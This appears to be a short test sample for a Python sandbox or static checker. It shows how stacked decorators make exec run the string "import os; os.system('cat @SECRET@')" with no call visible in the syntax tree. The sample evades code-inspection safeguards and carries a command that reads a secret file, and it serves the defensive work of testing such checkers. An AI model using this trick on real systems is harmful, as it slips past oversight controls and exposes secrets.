# The well-known eval by decorators only: nowhere a call in the syntax tree.
# effect: run
@exec
@(lambda _: "import os; os.system('cat @SECRET@')")
def anything():
    pass
